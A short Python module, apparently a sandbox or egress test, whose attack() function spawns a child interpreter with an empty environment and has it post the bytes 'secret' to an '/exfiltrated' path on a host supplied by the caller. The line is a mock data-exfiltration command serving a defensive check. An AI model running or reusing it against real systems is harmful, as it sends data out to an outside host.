"""A child with an empty environment: whatever was preloaded is not there."""

import subprocess
import sys

CODE = "import urllib.request; urllib.request.urlopen('http://%s/exfiltrated', b'secret')"


def attack(event):
    command = [sys.executable, "-c", CODE % event["web"]]
    return subprocess.run(command, env={}, capture_output=True).stderr.decode()
